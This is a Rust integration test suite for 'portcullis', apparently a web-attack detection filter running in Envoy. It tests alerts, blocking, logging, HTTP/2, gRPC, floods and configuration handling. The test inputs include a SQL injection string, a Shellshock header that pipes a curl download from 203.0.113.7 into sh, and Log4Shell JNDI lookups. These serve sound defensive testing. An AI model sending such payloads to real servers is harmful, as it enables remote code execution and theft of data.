//! The filter in a real Envoy: what reaches an operator, what it does to requests, and that no
//! request and no configuration takes it down.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use base64::Engine as _;
use portcullis_harness::demo::client;
use portcullis_tests::http2::{self, Answer};
use portcullis_tests::{BROWSER, Gateway, SQL_INJECTION, get};

/// Blocks whatever raises an alert at all.
const BLOCK: &str =
    r#"{"mode": "block", "block": {"min_severity": "Informational", "min_confidence": 0}}"#;

#[test]
fn a_detected_request_passes_and_shows_up_everywhere() {
    let gateway = Gateway::with(r#"{"mode": "detect"}"#);
    let response = gateway.get(SQL_INJECTION, "X-Forwarded-For: 203.0.113.9\r\n");
    assert_eq!(response.status, 200, "{}", response.text());
    let alerts = gateway.alerts();
    let alert = alerts
        .iter()
        .find(|alert| alert.alert_type() == "Gateway_SqlInjection")
        .expect("an alert");
    for (key, value) in [
        ("Severity", "High"),
        ("CompromisedEntity", "shop.example"),
        ("Method", "GET"),
        ("Target", SQL_INJECTION),
        ("UserAgent", BROWSER),
        ("Action", "detected"),
        ("Route", "all"),
    ] {
        assert_eq!(alert.text(key), value, "{key}");
    }
    assert!(
        alert.text("Evidence").to_uppercase().contains("UNION"),
        "{alert:?}"
    );
    assert_eq!(alert.text("RequestId").len(), 36, "{alert:?}");
    // The peer, whatever the client says in X-Forwarded-For.
    assert_eq!(
        alert.0.pointer("/Entities/0/Address").unwrap(),
        "127.0.0.1",
        "{alert:?}"
    );

    let entry = gateway.access_log_entry(SQL_INJECTION);
    assert_eq!(entry["request_id"], alert.text("RequestId"));
    assert_eq!(entry["rule"], alert.text("RuleId"));
    assert_eq!(entry["confidence"], alert.0["Confidence"].to_string());
    for (key, value) in [
        ("alert_type", "Gateway_SqlInjection"),
        ("severity", "High"),
        ("action", "detected"),
    ] {
        assert_eq!(entry[key], value, "{key}: {entry}");
    }
    assert_eq!(entry["details"], "via_upstream");
    assert_eq!(
        gateway.stat("wasmcustom.portcullis.alerts.Gateway_SqlInjection.detected"),
        1
    );

    assert_eq!(gateway.get("/product?id=17", "").status, 200);
    assert!(gateway.alerts().is_empty());
    assert!(gateway.access_log_entry("/product?id=17")["alert_type"].is_null());
    gateway.assert_alive();
}

#[test]
fn a_blocked_request_gets_a_stable_answer_and_says_why_in_the_log() {
    let gateway = Gateway::with(BLOCK);
    let response = gateway.get(SQL_INJECTION, "");
    assert_eq!(response.status, 403);
    assert_eq!(response.header("content-type"), Some("application/json"));
    let body: serde_json::Value = serde_json::from_slice(&response.body).unwrap();
    assert_eq!(body["error"], "request blocked");

    let alerts = gateway.alerts();
    let alert = alerts
        .iter()
        .find(|alert| alert.alert_type() == "Gateway_SqlInjection")
        .expect("an alert");
    assert_eq!(alert.text("Action"), "blocked");
    assert_eq!(body["request_id"], alert.text("RequestId"));
    let entry = gateway.access_log_entry(SQL_INJECTION);
    assert_eq!(entry["action"], "blocked");
    assert_eq!(entry["status"], 403);
    let details = entry["details"].as_str().unwrap();
    assert!(
        details.starts_with("portcullis_blocked{alert=")
            && details.contains(entry["rule"].as_str().unwrap()),
        "{details}"
    );
    assert_eq!(
        gateway.stat("wasmcustom.portcullis.alerts.Gateway_SqlInjection.blocked"),
        1
    );

    assert_eq!(
        gateway.get("/product?id=17", "").status,
        200,
        "what raises nothing passes"
    );
    gateway.assert_alive();
}

#[test]
fn blocking_starts_at_the_severity_that_the_configuration_says() {
    let gateway =
        Gateway::with(r#"{"mode": "block", "block": {"min_confidence": 0, "status": 418}}"#);
    let nmap = "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n";
    assert_eq!(
        gateway.get("/", nmap).status,
        200,
        "of severity Informational"
    );
    assert_eq!(gateway.alert_types(), ["AppServices_Nmap"]);
    assert_eq!(
        gateway.get(SQL_INJECTION, "").status,
        418,
        "of severity High"
    );
    gateway.assert_alive();
}

#[test]
fn any_byte_in_any_header_is_ordinary_input() {
    let gateway = Gateway::with("{}");
    let mut requests = 0;
    for name in [
        "User-Agent",
        "Referer",
        "Cookie",
        "X-Forwarded-For",
        "X-Request-Id",
        "Authorization",
        "X-Custom",
    ] {
        for byte in (0x01..=0xff_u8).filter(|byte| !b"\r\n".contains(byte)) {
            let mut line = format!("{name}: a").into_bytes();
            line.extend_from_slice(&[byte, b'b', byte, b'\r', b'\n']);
            let status = client::send(gateway.address(), &get(b"/", &line))
                .unwrap()
                .status;
            // Envoy itself refuses control characters.
            let is_refused = byte < 0x20 && byte != b'\t' || byte == 0x7f;
            assert_eq!(
                status,
                if is_refused { 400 } else { 200 },
                "{name} with {byte:#04x}"
            );
            requests += 1;
        }
    }
    assert_eq!(requests, 7 * 253);
    // Not UTF-8 beside an attack: neither hides the other.
    let line =
        b"User-Agent: \xff\xfe () { :;}; /bin/bash -c \"curl http://203.0.113.7/x.sh | sh\"\r\n";
    gateway.send(&get(b"/", line));
    assert!(
        gateway
            .alert_types()
            .contains(&"AppServices_UserAgentInjection".to_owned())
    );
    gateway.assert_alive();
    eprintln!("{requests} requests");
}

#[test]
fn an_alert_holds_nothing_that_could_forge_a_line_of_the_log() {
    let gateway = Gateway::with("{}");
    let line = b"User-Agent: ${jndi:ldap://203.0.113.7/\xc2\x85\xe2\x80\xa8[2026] [warning] {\"AlertType\":\"x\"}}\r\n";
    gateway.send(&get(b"/", line));
    let alerts = gateway.alerts();
    assert!(!alerts.is_empty());
    assert!(
        alerts.iter().all(|alert| alert.alert_type() != "x"),
        "{alerts:?}"
    );
    assert!(
        alerts
            .iter()
            .all(|alert| !alert.text("UserAgent").contains(['\u{85}', '\u{2028}'])),
        "{alerts:?}"
    );
}

/// A target of this many bytes that ends with an attack.
fn long_target(bytes: usize) -> String {
    let attack = "&id=1'%20UNION%20SELECT%20password%20FROM%20users--%20-";
    format!(
        "/search?q={}{attack}",
        "a".repeat(bytes - "/search?q=".len() - attack.len())
    )
}

#[test]
fn floods_are_refused_by_envoy_or_inspected() {
    let flood = |count: usize| {
        (0..count)
            .map(|i| format!("X-{i}: {i}\r\n"))
            .collect::<String>()
    };

    let gateway = Gateway::with("{}");
    assert_eq!(gateway.get("/", &flood(10_000)).status, 431);
    assert_eq!(gateway.get(&long_target(1 << 20), "").status, 431);
    assert!(
        gateway.alerts().is_empty(),
        "Envoy refused both before the filter"
    );
    gateway.assert_alive();

    let raised = Gateway::start(|config| {
        config.edit(
            "use_remote_address: true",
            "use_remote_address: true\n          max_request_headers_kb: 2048\n          \
             common_http_protocol_options: {max_headers_count: 20000}",
        )
    });
    let gateway = raised.unwrap();
    assert_eq!(gateway.get("/", &flood(10_000)).status, 200);
    assert_eq!(gateway.alert_types(), [""; 0]);
    // In front of the flood and behind it.
    assert_eq!(gateway.get(SQL_INJECTION, &flood(10_000)).status, 200);
    assert_eq!(gateway.alert_types(), ["Gateway_SqlInjection"]);
    let jndi = "Referer: https://example.com/?a=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D\r\n";
    assert_eq!(gateway.get("/", &(flood(10_000) + jndi)).status, 200);
    let alerts = gateway.alerts();
    let truncated = gateway.stat("wasmcustom.portcullis.truncated_requests");
    assert!(
        !alerts.is_empty() || truncated > 0,
        "an attack behind 10,000 headers is either found or counted as not inspected"
    );

    let target = long_target(1 << 20);
    let before = gateway.stat("wasmcustom.portcullis.truncated_requests");
    assert_eq!(gateway.get(&target, "").status, 200);
    let alerts = gateway.alerts();
    let truncated = gateway.stat("wasmcustom.portcullis.truncated_requests") - before;
    assert!(
        !alerts.is_empty() || truncated == 1,
        "an attack at the end of 1 MiB is either found or counted as not inspected"
    );
    assert!(
        alerts
            .iter()
            .all(|alert| alert.0.to_string().len() < 64 << 10),
        "an alert is bounded"
    );
    gateway.assert_alive();
}

#[test]
fn malformed_requests_leave_the_filter_alive() {
    let gateway = Gateway::with("{}");
    // What Envoy answers; 200 and 404 are the upstream's.
    let cases: &[(&str, &[u8], &[u16])] = &[
        ("two Host headers", b"GET /two-hosts HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n", &[400, 404]),
        ("no Host header", b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n", &[400]),
        ("an empty Host header", b"GET /empty-host HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n", &[400, 404]),
        ("no target", b"GET  HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", &[400]),
        ("a target without a slash", b"GET a HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", &[400, 404]),
        ("OPTIONS *", b"OPTIONS * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", &[200, 404]),
        ("CONNECT", b"CONNECT a:443 HTTP/1.1\r\nHost: a:443\r\nConnection: close\r\n\r\n", &[403, 404]),
        ("an absolute target", b"GET http://b/absolute HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", &[404]),
        ("HTTP/1.0", b"GET / HTTP/1.0\r\nHost: a\r\n\r\n", &[426]),
        ("a NUL", b"GET / HTTP/1.1\r\nHost: a\r\nX: a\0b\r\nConnection: close\r\n\r\n", &[400]),
        ("a high byte in the target", b"GET /\xff HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", &[400]),
        ("both lengths", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n", &[400]),
        ("no HTTP", b"\x16\x03\x01\x02\x00\r\n\r\n", &[400]),
        ("an unknown method", b"FROB /frob HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", &[400, 404]),
        ("an upgrade", b"GET /socket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, close\r\nUpgrade: websocket\r\n\r\n", &[403, 404]),
    ];
    for (what, request, expected) in cases {
        let status = gateway.send(request).status;
        assert!(expected.contains(&status), "{what}: {status}");
        gateway.assert_alive();
    }
    assert_eq!(cases.len(), 15);

    // An attack in a request that also has two Host headers, if Envoy lets it pass, is still found.
    let request = [
        b"GET ",
        SQL_INJECTION.as_bytes(),
        b" HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
    ]
    .concat();
    let is_refused = gateway.send(&request).status == 400;
    assert!(
        is_refused
            || gateway
                .alert_types()
                .contains(&"Gateway_SqlInjection".to_owned())
    );
    eprintln!("{} malformed requests", cases.len());
}

type Fields<'a> = Vec<(&'a [u8], &'a [u8])>;

fn fields<'a>(target: &'a [u8], further: &[(&'a [u8], &'a [u8])]) -> Fields<'a> {
    let mut fields: Fields = vec![
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":authority", b"shop.example"),
        (b":path", target),
    ];
    fields.extend_from_slice(further);
    fields
}

#[test]
fn http2_is_inspected_like_http1() {
    let gateway = Gateway::with("{}");
    let send = |fields: &[(&[u8], &[u8])]| http2::send(gateway.address(), fields, None).unwrap();
    assert_eq!(
        send(&fields(b"/product?id=17", &[])).field(":status"),
        Some("200")
    );
    assert!(gateway.alerts().is_empty());
    assert_eq!(
        send(&fields(SQL_INJECTION.as_bytes(), &[])).field(":status"),
        Some("200")
    );
    let alerts = gateway.alerts();
    let alert = alerts
        .iter()
        .find(|alert| alert.alert_type() == "Gateway_SqlInjection")
        .expect("an alert");
    assert_eq!(alert.text("Target"), SQL_INJECTION);
    assert_eq!(alert.text("CompromisedEntity"), "shop.example");

    // HTTP/2 carries bytes in the query that HTTP/1.1 may not.
    let raw = b"/product?x=\xff\xfe&id=1' UNION SELECT password FROM users-- -";
    if send(&fields(raw, &[])).field(":status") == Some("200") {
        assert!(
            gateway
                .alert_types()
                .contains(&"Gateway_SqlInjection".to_owned())
        );
    }
    // A cookie may come in crumbs.
    send(&fields(
        b"/",
        &[
            (b"cookie", b"a=1"),
            (b"cookie", b"b=\xff"),
            (b"user-agent", b"\xf0\x28\x8c\x28"),
        ],
    ));
    gateway.assert_alive();

    let malformed: &[(&str, Fields)] = &[
        (
            "no :path",
            vec![
                (b":method", b"GET"),
                (b":scheme", b"http"),
                (b":authority", b"a"),
            ],
        ),
        ("an empty :path", fields(b"", &[])),
        (
            "no :method",
            vec![
                (b":scheme", b"http"),
                (b":authority", b"a"),
                (b":path", b"/"),
            ],
        ),
        ("two :path", fields(b"/", &[(b":path", b"/b")])),
        (
            "a pseudo header behind a header",
            fields(b"/", &[(b"a", b"b"), (b":authority", b"c")]),
        ),
        (
            "host and :authority",
            fields(b"/", &[(b"host", b"other.example")]),
        ),
        (
            "two host",
            fields(b"/", &[(b"host", b"a"), (b"host", b"b")]),
        ),
        ("an upper-case name", fields(b"/", &[(b"Upper", b"x")])),
        (
            "a line break in a value",
            fields(b"/", &[(b"x", b"a\r\nb: c")]),
        ),
        ("connection", fields(b"/", &[(b"connection", b"close")])),
    ];
    for (what, fields) in malformed {
        match send(fields) {
            Answer::Refused(_) => {}
            answer => {
                let status = answer.field(":status").unwrap().to_owned();
                assert!(
                    ["200", "400", "404"].contains(&&*status),
                    "{what}: {status}"
                );
            }
        }
        gateway.assert_alive();
    }
    assert_eq!(malformed.len(), 10);
}

#[test]
fn a_blocked_grpc_call_gets_a_grpc_status() {
    let gateway = Gateway::with(BLOCK);
    let call = |target: &[u8]| {
        let fields: Fields = vec![
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":authority", b"shop.example"),
            (b":path", target),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ];
        // One empty message.
        http2::send(gateway.address(), &fields, Some(&[0; 5])).unwrap()
    };
    let answer = call(b"/shop.Catalogue/List");
    assert_eq!(
        (answer.field(":status"), answer.field("grpc-status")),
        (Some("200"), Some("0")),
        "{answer:?}"
    );
    let answer = call(SQL_INJECTION.as_bytes());
    assert_eq!(
        (answer.field(":status"), answer.field("grpc-status")),
        (Some("200"), Some("7")),
        "{answer:?}"
    );
    assert!(
        answer
            .field("grpc-message")
            .unwrap()
            .contains("request blocked"),
        "{answer:?}"
    );
    let entry = gateway.access_log_entry(SQL_INJECTION);
    assert_eq!(entry["action"], "blocked");
    assert!(
        entry["details"]
            .as_str()
            .unwrap()
            .starts_with("portcullis_blocked"),
        "{entry}"
    );
    gateway.assert_alive();
}

/// The line that sets the plugin configuration in the example.
const CONFIGURATION: &str = r#"configuration: {"@type": type.googleapis.com/google.protobuf.StringValue, value: '{"mode": "detect"}'}"#;

#[test]
fn configurations_in_every_form_are_accepted() {
    // What is written in place of the example's configuration, and the status of an attack.
    let cases = [
        ("nothing", "", 200),
        (
            "an empty string",
            r#"configuration: {"@type": type.googleapis.com/google.protobuf.StringValue, value: ""}"#,
            200,
        ),
        (
            "a Struct",
            r#"configuration: {"@type": type.googleapis.com/google.protobuf.Struct, value: {mode: block, block: {min_severity: Medium, min_confidence: 10, status: 429}}}"#,
            429,
        ),
        (
            "bytes",
            // {"mode":"block","block":{"min_confidence":0}}
            r#"configuration: {"@type": type.googleapis.com/google.protobuf.BytesValue, value: "eyJtb2RlIjoiYmxvY2siLCJibG9jayI6eyJtaW5fY29uZmlkZW5jZSI6MH19"}"#,
            403,
        ),
    ];
    for (what, configuration, status) in cases {
        let gateway = Gateway::start(|config| config.edit(CONFIGURATION, configuration));
        let gateway = gateway.unwrap_or_else(|error| panic!("{what}: {error:#}"));
        assert_eq!(gateway.get(SQL_INJECTION, "").status, status, "{what}");
        assert_eq!(gateway.alert_types(), ["Gateway_SqlInjection"], "{what}");
        gateway.assert_alive();
    }
    assert_eq!(cases.len(), 4);
}

/// What a file with these bytes is as a plugin configuration.
fn bytes_value(bytes: &[u8]) -> String {
    let text = base64::engine::general_purpose::STANDARD.encode(bytes);
    format!(
        r#"configuration: {{"@type": type.googleapis.com/google.protobuf.BytesValue, value: "{text}"}}"#
    )
}

#[test]
fn compiled_rules_stand_before_a_configuration_as_they_are() {
    let rule = "title: Our tool\nid: 6b1c1d9e-0d8e-4c4e-9c0c-2f6f2c1f0a01\nstatus: stable\nlogsource: {category: webserver}\n\
                detection:\n  selection:\n    cs-uri-stem: /our-tool\n  condition: selection\nlevel: high\n\
                tags: [attack.t1190]\nportcullis: {alert: Gateway_SqlInjection, confidence: 90}\n";
    let mut documents = portcullis_compiler::parse("rule.yml", rule, &Default::default()).documents;
    // With the rule for the request by which the tests know that a gateway answers.
    let test = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/test");
    documents.extend(portcullis_compiler::load_dir(&test).unwrap());
    let rules = portcullis_compiler::backend::compile(&documents)
        .unwrap()
        .bytes;
    let policy = br#"{"mode": "block", "block": {"min_confidence": 0}}"#;
    for (configuration, status) in [(rules.clone(), 404), ([&rules[..], policy].concat(), 403)] {
        let configuration = bytes_value(&configuration);
        let gateway = Gateway::start(|config| config.edit(CONFIGURATION, &configuration)).unwrap();
        // The upstream knows no such page.
        assert_eq!(gateway.get("/our-tool", "").status, status);
        // These rules stand in place of those that ship.
        assert_eq!(gateway.get(SQL_INJECTION, "").status, 200);
        gateway.assert_alive();
    }
    let cut = rules.split_last().unwrap().1;
    let mut flipped = rules.clone();
    *flipped.last_mut().unwrap() ^= 1;
    for (wrong, reason) in [
        (cut, "it was cut or joined"),
        (&flipped[..], "its checksum does not match"),
    ] {
        let configuration = bytes_value(wrong);
        let error = match Gateway::start(|config| config.edit(CONFIGURATION, &configuration)) {
            Ok(_) => panic!("accepted: {reason}"),
            Err(error) => format!("{error:#}"),
        };
        assert!(error.contains(reason), "{error}");
    }
}

#[test]
fn a_wrong_configuration_is_refused_with_a_reason() {
    let string = |value: &str| {
        let quoted = serde_json::to_string(value).unwrap();
        format!(
            r#"configuration: {{"@type": type.googleapis.com/google.protobuf.StringValue, value: {quoted}}}"#
        )
    };
    // And what Envoy's log must say.
    let cases = [
        (string("hello"), "neither a JSON object nor a `google.protobuf.Struct`"),
        (string(r#"{"mode": "detect""#), "EOF while parsing"),
        (string(r#"{"mod": "block"}"#), "did you mean `mode`?"),
        (
            r#"configuration: {"@type": type.googleapis.com/google.protobuf.Int64Value, value: 7}"#.to_owned(),
            "neither a JSON object nor a `google.protobuf.Struct`",
        ),
        (
            r#"configuration: {"@type": type.googleapis.com/google.protobuf.Struct, value: {mod: block}}"#.to_owned(),
            "did you mean `mode`?",
        ),
    ];
    let count = cases.len();
    for (configuration, reason) in cases {
        let error = match Gateway::start(|config| config.edit(CONFIGURATION, &configuration)) {
            Ok(_) => panic!("accepted: {configuration}"),
            Err(error) => format!("{error:#}"),
        };
        let line = error
            .lines()
            .find(|line| line.contains("configuration refused"));
        assert!(
            line.is_some_and(|line| line.contains(reason)),
            "{configuration}: {error}"
        );
    }
    assert_eq!(count, 5);
}

#[test]
fn tagged_counters_have_labels_in_prometheus() {
    let gateway = Gateway::with(r#"{"metrics": {"style": "tagged"}}"#);
    for _ in 0..3 {
        gateway.get(SQL_INJECTION, "");
    }
    assert_eq!(gateway.alerts().len(), 3);
    let text = gateway.admin("/stats/prometheus?filter=portcullis_alerts_total");
    let line = text
        .lines()
        .find(|line| line.contains("Gateway_SqlInjection"))
        .unwrap_or_else(|| panic!("{text}"));
    let (labels, value) = line
        .strip_prefix("portcullis_alerts_total{")
        .unwrap()
        .split_once("} ")
        .unwrap();
    let labels: Vec<&str> = labels.split(',').collect();
    for label in [
        r#"portcullis_alert="Gateway_SqlInjection""#,
        r#"portcullis_severity="High""#,
        r#"portcullis_action="detected""#,
    ] {
        assert!(labels.contains(&label), "{line}");
    }
    assert_eq!(value, "3");
    gateway.assert_alive();
}
